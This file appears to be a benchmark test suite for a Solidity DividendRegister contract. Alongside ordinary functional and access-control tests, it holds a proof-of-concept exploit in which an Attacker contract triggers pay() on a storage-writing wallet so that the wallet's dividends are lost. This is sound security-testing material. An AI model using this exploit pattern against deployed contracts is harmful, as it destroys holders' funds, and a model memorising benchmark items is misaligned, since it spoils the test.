pragma solidity 0.4.26;

import "./DividendRegister.sol";

// assay-canary-5246d2b1-c1cb-4209-b068-deb420af18ef

interface Vm {
    function deal(address who, uint amount) external;
    function prank(address sender) external;
    function expectRevert() external;
}

// keeps a log of deposits, until it is told not to
contract Wallet {
    address private keeper = msg.sender;
    bool private silent;
    uint[] private deposits;

    function setSilent(bool _silent) public {
        require(msg.sender == keeper);
        silent = _silent;
    }

    function() public payable {
        if (!silent) deposits.push(msg.value);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = 0xA9A;

    DividendRegister private register;
    Wallet private wallet;
    Attacker private mallory;

    function() public payable {}

    function setUp() public {
        vm.deal(this, 100 ether);
        register = new DividendRegister();
        wallet = new Wallet();
        register.setShares(ANA, 400);
        register.setShares(wallet, 600);
        require(address(register).call.value(10 ether)());
        mallory = new Attacker(register);
    }

    // the wallet has it, or can still get it
    function forWallet() public view returns (uint) {
        return address(wallet).balance + register.dueTo(wallet);
    }

    function test_Regular() public {
        require(register.dueTo(ANA) == 4 ether && forWallet() == 6 ether);
        register.pay(ANA);
        require(ANA.balance == 4 ether && register.dueTo(ANA) == 0);
        register.setShares(ANA, 200);
        require(address(register).call.value(8 ether)());
        require(register.dueTo(ANA) == 2 ether && forWallet() == 12 ether && register.totalShares() == 800);
        wallet.setSilent(true);
        register.pay(wallet);
        require(address(wallet).balance == 12 ether && register.owed(wallet) == 0);
        register.setShares(ANA, 0);
        register.setShares(wallet, 0);
        require(address(register).call.value(1 ether)());
        require(register.unassigned() == 1 ether && register.dueTo(ANA) == 2 ether);
        uint before = address(this).balance;
        register.takeUnassigned();
        require(address(this).balance == before + 1 ether && register.unassigned() == 0);
        register.pay(ANA);
        require(address(register).balance == 0);
        register.setSecretary(ANA);
        require(register.secretary() == ANA);
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert();
        register.setSecretary(ANA);
        vm.prank(ANA);
        vm.expectRevert();
        register.setShares(ANA, 1);
        vm.prank(ANA);
        vm.expectRevert();
        register.takeUnassigned();
    }

    function test_RefusesMistakes() public {
        vm.expectRevert();
        register.setSecretary(0);
        vm.expectRevert();
        register.setShares(0, 1);
        vm.expectRevert();
        register.setShares(ANA, 1e12 + 1);
        vm.expectRevert();
        register.pay(this);
    }

    function exploit() public {
        mallory.run(wallet);
    }

    function test_Exploit() public {
        exploit();
        require(forWallet() == 0);
    }

    function target() public view returns (address) {
        return register;
    }

    function attacker() public view returns (address) {
        return mallory;
    }
}

contract Attacker {
    DividendRegister private register;

    function Attacker(DividendRegister _register) public {
        register = _register;
    }

    function run(address _holder) public {
        register.pay(_holder);
    }
}
